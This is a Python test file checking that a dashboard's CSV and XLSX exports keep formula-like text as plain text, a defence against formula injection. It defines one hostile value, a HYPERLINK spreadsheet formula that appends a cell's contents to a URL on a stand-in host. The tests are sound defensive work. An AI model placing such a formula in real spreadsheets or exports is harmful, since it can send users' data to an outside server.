"""The dashboards' CSV and XLSX keep a text that looks like a formula as text (formula injection)."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from cchc.indicators.exports import Cell, Row, Table, table_csv, table_xlsx

HOSTILE = '=HYPERLINK("http://x/?"&A1,"Bấm")'


def _table() -> Table:
    return Table(
        key="ho-so", title="Hồ sơ", headers=["Người nộp", "Số ngày"], rows=[Row([Cell.of(HOSTILE), Cell.of(3)])]
    )


def test_table_csv_quotes_a_formula() -> None:
    response = table_csv(_table(), stem="chi-so")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[1] == ["'" + HOSTILE, "3"]


def test_table_xlsx_stores_a_formula_as_text() -> None:
    response = table_xlsx(_table(), stem="chi-so")
    cell = load_workbook(io.BytesIO(response.content)).active["A2"]  # type: ignore[index]
    assert (cell.value, cell.data_type) == (HOSTILE, "s")
